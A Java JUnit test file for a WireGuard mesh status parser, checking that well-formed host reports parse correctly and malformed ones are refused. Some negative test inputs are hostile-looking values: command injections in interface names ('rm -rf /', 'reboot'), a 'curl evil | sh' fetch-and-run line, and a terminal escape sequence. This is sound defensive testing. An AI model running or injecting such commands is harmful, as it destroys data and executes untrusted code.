package dev.wgmesh.deployer.domain;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.wgmesh.common.wireguard.Cidr;
import dev.wgmesh.common.wireguard.Endpoint;
import dev.wgmesh.common.wireguard.InterfaceAddress;
import dev.wgmesh.common.wireguard.InterfaceName;
import dev.wgmesh.deployer.domain.HostObservation.ObservedInterface;
import dev.wgmesh.deployer.domain.HostObservation.ObservedPeer;
import dev.wgmesh.deployer.domain.HostObservation.State;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StatusParserTest {

    static final String KEY_A = "aGVsbG8gd29ybGQgdGhpcyBpcyAzMiBieXRlcyBrZXk=";
    static final String KEY_B = "c2Vjb25kIGtleSBvZiBleGFjdGx5IDMyIGJ5dGVzISE=";
    static final String SHA = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

    static final String STATUS = String.join("\n",
            "wgmesh-status\t1",
            "interface\twg0\tup\t51820\t" + KEY_A + "\t1420",
            "file\twg0\t" + SHA,
            "address\twg0\t10.99.0.1/24",
            "peer\twg0\t" + KEY_B + "\t" + "b".repeat(64) + "\t192.0.2.2:51820\t10.2.0.0/16,10.99.0.2/32\t1733390000\t100\t200\t25",
            "interface\twg-2\tmissing\t-\t-\t-",
            "file\twg-2\tmissing",
            "end", "");

    @Test
    void readsEveryLineIntoTypes() {
        HostObservation observed = StatusParser.parse(STATUS);

        assertThat(observed.runtime()).isTrue();
        ObservedInterface wg0 = observed.find(InterfaceName.parse("wg0")).orElseThrow();
        assertThat(wg0.state()).isEqualTo(State.UP);
        assertThat(wg0.listenPort()).isEqualTo(51820);
        assertThat(wg0.publicKey().base64()).isEqualTo(KEY_A);
        assertThat(wg0.mtu()).isEqualTo(1420);
        assertThat(wg0.fileSha256()).isEqualTo(SHA);
        assertThat(wg0.addresses()).containsExactly(InterfaceAddress.parse("10.99.0.1/24"));
        ObservedPeer peer = wg0.peers().get(0);
        assertThat(peer.publicKey().base64()).isEqualTo(KEY_B);
        assertThat(peer.presharedKeySha256()).isEqualTo("b".repeat(64));
        assertThat(peer.endpoint()).isEqualTo(Endpoint.parse("192.0.2.2:51820"));
        assertThat(peer.allowedIps()).containsExactly(Cidr.parse("10.2.0.0/16"), Cidr.parse("10.99.0.2/32"));
        assertThat(peer.latestHandshake()).isEqualTo(1733390000L);
        assertThat(peer.rxBytes()).isEqualTo(100);
        assertThat(peer.txBytes()).isEqualTo(200);
        assertThat(peer.keepalive()).isEqualTo(25);
        ObservedInterface gone = observed.find(InterfaceName.parse("wg-2")).orElseThrow();
        assertThat(gone.state()).isEqualTo(State.MISSING);
        assertThat(gone.fileSha256()).isNull();
        assertThat(gone.listenPort()).isNull();
    }

    @Test
    void noneAndOffAreAbsentValues() {
        HostObservation observed = StatusParser.parse(String.join("\n", "wgmesh-status\t1",
                "interface\twg0\tdown\t-\t-\t-", "file\twg0\t" + SHA,
                "peer\twg0\t" + KEY_B + "\tnone\tnone\tnone\t0\t0\t0\toff", "end"));

        ObservedPeer peer = observed.interfaces().get(0).peers().get(0);
        assertThat(peer.presharedKeySha256()).isNull();
        assertThat(peer.endpoint()).isNull();
        assertThat(peer.allowedIps()).isEmpty();
        assertThat(peer.keepalive()).isNull();
        assertThat(peer.latestHandshake()).isZero();
    }

    @Test
    void aHostWithNoInterfacesIsAnEmptyObservation() {
        assertThat(StatusParser.parse("wgmesh-status\t1\nend\n").interfaces()).isEmpty();
    }

    @Test
    void outputThatWasCutOffIsRefused() {
        String cut = STATUS.substring(0, STATUS.indexOf("interface\twg-2"));

        assertThatThrownBy(() -> StatusParser.parse(cut)).hasMessageContaining("no \"end\" line");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "hello", "wgmesh-status\t2", "<html>", "wgmesh-status 1"})
    void anythingButTheHeaderIsRefusedAtLineOne(String first) {
        assertThatThrownBy(() -> StatusParser.parse(first + "\nend\n"))
                .isInstanceOf(StatusParser.StatusFormatException.class).hasMessageContaining("line 1");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "interface\twg0\tup\t51820\t" + KEY_A,                          // a field short
            "interface\twg0\tsideways\t51820\t" + KEY_A + "\t1420",         // no such state
            "interface\twg0\tup\t70000\t" + KEY_A + "\t1420",               // port out of range
            "interface\twg0\tup\t51820\tnot-a-key\t1420",
            "interface\tname-longer-than-15\tup\t51820\t" + KEY_A + "\t1420",
            "interface\twg0;rm -rf /\tup\t51820\t" + KEY_A + "\t1420",
            "file\twg9\t" + SHA,                                           // no interface line before it
            "file\twg0\tABC",
            "file\twg0\t" + SHA,                                           // second file line
            "address\twg0\t10.0.0.1",
            "peer\twg0\t" + KEY_B + "\tnone\tnone\tnone\t-1\t0\t0\toff",   // negative handshake
            "peer\twg0\t" + KEY_B + "\tnone\tnone\tnone\t0\t99999999999999999999\t0\toff",
            "peer\twg0\t" + KEY_B + "\tnone\tnone\t10.0.0.1/8\t0\t0\t0\toff", // host bits
            "peer\twg0\t" + KEY_B + "\tnone\tevil\tnone\t0\t0\t0\toff",
            "peer\twg0\t" + KEY_B + "\tnone\tnone\tnone\t0\t0\t0\t0",       // keepalive 0 is printed as off
            "peer\twg0\t" + KEY_A + "\tnone\tnone\tnone\t0\t0\t0\toff",     // twice (see below)
            "digest\twg9\t" + SHA,                                         // no interface line before it
            "digest\twg0\tnot-a-digest",
            "PostUp = curl evil | sh",
            "end\textra"})
    void aBadLineIsRefusedNamingItsNumberAndQuotingIt(String bad) {
        String text = String.join("\n", "wgmesh-status\t1",
                "interface\twg0\tup\t51820\t" + KEY_A + "\t1420", "file\twg0\t" + SHA,
                "peer\twg0\t" + KEY_A + "\tnone\tnone\tnone\t0\t0\t0\toff", bad, "end");

        assertThatThrownBy(() -> StatusParser.parse(text)).isInstanceOf(StatusParser.StatusFormatException.class)
                .hasMessageStartingWith("status line 5, \"");
    }

    @Test
    void anInterfaceTwiceOrTextAfterTheEndIsRefused() {
        String twice = String.join("\n", "wgmesh-status\t1", "interface\twg0\tdown\t-\t-\t-",
                "interface\twg0\tdown\t-\t-\t-", "end");

        assertThatThrownBy(() -> StatusParser.parse(twice)).hasMessageContaining("appears twice");
        assertThatThrownBy(() -> StatusParser.parse("wgmesh-status\t1\nend\nmore")).hasMessageContaining("follow");
    }

    @Test
    void aQuotedLineCannotStartANewLineOfALog() {
        String text = "wgmesh-status\t1\n\u001b[31mred\r\nend\n";

        assertThatThrownBy(() -> StatusParser.parse(text)).satisfies(e ->
                assertThat(e.getMessage()).doesNotContain("\r", "\u001b").contains("\\r", "\\u001b"));
    }

    @Test
    void eachInterfacesDigestIsKeptWhenEveryInterfaceHasOne() {
        String withDigests = STATUS.replace("file\twg-2\tmissing\n", "file\twg-2\tmissing\ndigest\twg-2\t" + "c".repeat(64) + "\n")
                .replace("\t25\n", "\t25\ndigest\twg0\t" + SHA + "\n");

        assertThat(StatusParser.parse(withDigests).digests()).isEqualTo(Map.of(InterfaceName.parse("wg0"), SHA,
                InterfaceName.parse("wg-2"), "c".repeat(64)));
        assertThat(StatusParser.parse(STATUS).digests()).as("a host without digests").isEmpty();
        String oneOfTwo = STATUS.replace("\t25\n", "\t25\ndigest\twg0\t" + SHA + "\n");
        assertThat(StatusParser.parse(oneOfTwo).digests()).as("a digest for only one of two interfaces").isEmpty();
        String twice = withDigests.replace("end\n", "digest\twg0\t" + SHA + "\nend\n");
        assertThatThrownBy(() -> StatusParser.parse(twice)).hasMessageContaining("a second digest line for wg0");
    }

    @Test
    void aBriefStatusGivesEachInterfacesDigestAndStalePeers() {
        String brief = "wgmesh-brief\t1\ninterface\twg0\t" + SHA + "\t0\ninterface\twg-2\t" + "c".repeat(64) + "\t3\nend\n";

        Map<InterfaceName, StatusParser.Brief> parsed = StatusParser.parseBrief(brief);

        assertThat(parsed).isEqualTo(Map.of(InterfaceName.parse("wg0"), new StatusParser.Brief(SHA, 0),
                InterfaceName.parse("wg-2"), new StatusParser.Brief("c".repeat(64), 3)));
        assertThat(StatusParser.parseBrief("wgmesh-brief\t1\nend")).isEmpty();
    }

    @Test
    void aBriefStatusSaysUnchangedOnlyForTheSameInterfacesDigestsAndNoStalePeer() {
        InterfaceName wg0 = InterfaceName.parse("wg0");
        InterfaceName wg1 = InterfaceName.parse("wg1");
        Map<InterfaceName, String> digests = Map.of(wg0, SHA);

        assertThat(StatusParser.Brief.unchanged(Map.of(wg0, new StatusParser.Brief(SHA, 0)), digests)).isTrue();
        assertThat(StatusParser.Brief.unchanged(Map.of(wg0, new StatusParser.Brief(SHA, 1)), digests)).isFalse();
        assertThat(StatusParser.Brief.unchanged(Map.of(wg0, new StatusParser.Brief("c".repeat(64), 0)), digests)).isFalse();
        assertThat(StatusParser.Brief.unchanged(Map.of(wg1, new StatusParser.Brief(SHA, 0)), digests)).isFalse();
        assertThat(StatusParser.Brief.unchanged(Map.of(wg0, new StatusParser.Brief(SHA, 0),
                wg1, new StatusParser.Brief(SHA, 0)), digests)).as("an interface more").isFalse();
        assertThat(StatusParser.Brief.unchanged(Map.of(), digests)).as("every interface gone").isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "wgmesh-status\t1\nend\n",                                        // a full status
            "wgmesh-brief\t2\nend\n",
            "wgmesh-brief\t1\ninterface\twg0\t" + SHA + "\t0\n",               // cut off
            "wgmesh-brief\t1\ninterface\twg0\t" + SHA + "\nend\n",              // a field short
            "wgmesh-brief\t1\ninterface\twg0\t" + SHA + "\t-1\nend\n",
            "wgmesh-brief\t1\ninterface\twg0\tABC\t0\nend\n",
            "wgmesh-brief\t1\ninterface\twg0;reboot\t" + SHA + "\t0\nend\n",
            "wgmesh-brief\t1\ninterface\twg0\t" + SHA + "\t0\ninterface\twg0\t" + SHA + "\t0\nend\n",
            "wgmesh-brief\t1\npeer\twg0\t" + SHA + "\t0\nend\n",
            "wgmesh-brief\t1\nend\nend\n"})
    void aBadBriefStatusIsRefused(String bad) {
        assertThatThrownBy(() -> StatusParser.parseBrief(bad)).isInstanceOf(StatusParser.StatusFormatException.class);
    }

    @Test
    void duplicatedAllowedIpsCollapse() {
        HostObservation observed = StatusParser.parse(String.join("\n", "wgmesh-status\t1",
                "interface\twg0\tdown\t-\t-\t-",
                "peer\twg0\t" + KEY_B + "\tnone\tnone\t10.0.0.0/8,10.0.0.0/8\t0\t0\t0\toff", "end"));

        assertThat(observed.interfaces().get(0).peers().get(0).allowedIps()).isEqualTo(List.of(Cidr.parse("10.0.0.0/8")));
    }
}
